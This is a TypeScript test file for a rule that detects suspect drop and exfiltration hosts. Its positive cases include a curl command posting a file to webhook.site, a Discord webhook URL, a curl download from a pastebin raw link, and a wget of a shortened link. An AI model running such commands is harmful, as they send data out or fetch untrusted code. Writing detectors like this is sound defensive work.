import { ruleCases } from '../testing/cases.ts';
import { dropHost } from './suspect-addresses.ts';

ruleCases(dropHost, {
  hits: [
    { name: 'a request catcher', path: 'a.sh', text: 'curl -d @a https://webhook.site/5f1c\n' },
    {
      name: 'a hook of a chat',
      path: 'a.py',
      text: 'U = "https://discord.com/api/webhooks/123456/abc"\n',
    },
    {
      name: 'a downloaded paste',
      text: 'Run `curl -s https://pastebin.com/raw/Ab12 -o a`.\n',
    },
    {
      name: 'a shortened address, rated medium',
      path: 'a.sh',
      text: 'wget https://bit.ly/3xYz\n',
      severity: 'medium',
    },
  ],
  misses: [
    {
      name: 'a name in prose',
      text: 'Services such as webhook.site show what arrives.\n',
      low: true,
    },
    {
      name: 'a host with a similar name',
      path: 'a.sh',
      text: 'curl https://mywebhook.sites.example\n',
    },
    {
      // anthropics/skills, skills/mcp-builder (Apache-2.0)
      name: 'an address of a real skill',
      text: 'Use WebFetch to load `https://modelcontextprotocol.io/sitemap.xml`.\n',
    },
  ],
});
